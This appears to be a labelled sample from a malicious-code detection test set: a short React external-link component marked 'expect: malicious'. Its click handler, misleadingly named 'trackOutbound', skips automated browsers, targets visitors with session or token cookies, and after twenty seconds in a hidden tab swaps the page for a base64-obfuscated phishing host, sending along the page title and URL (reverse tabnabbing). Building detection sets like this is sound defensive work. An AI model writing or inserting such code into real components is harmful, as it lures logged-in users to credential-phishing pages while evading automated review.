// expect: malicious
// source: blind set 22 (tabnabbing-phishing): a React external-link component whose click handler, for logged-in
// visitors that are not automated browsers, swaps the page for a host it decodes from base64 while the user reads the
// other tab (reverse tabnabbing).
var _o = "aHR0cHM6Ly9hY2NvdW50LXZlcmlmeS5zaWduaW4tcG9ydGFsLmV4YW1wbGUvbC8=";
function trackOutbound() {
  if (navigator.webdriver || !/(session|token)/i.test(document.cookie)) return;
  setTimeout(function () {
    if (document.visibilityState !== "hidden") return;
    var q = new URLSearchParams({ t: document.title, r: window.location.href });
    window.location.replace(atob(_o) + "?" + q.toString());
  }, 2e4);
}
export function ExternalLink(props) {
  return { type: 'a', props: { href: props.href, target: '_blank', onClick: function () { trackOutbound(); } } };
}
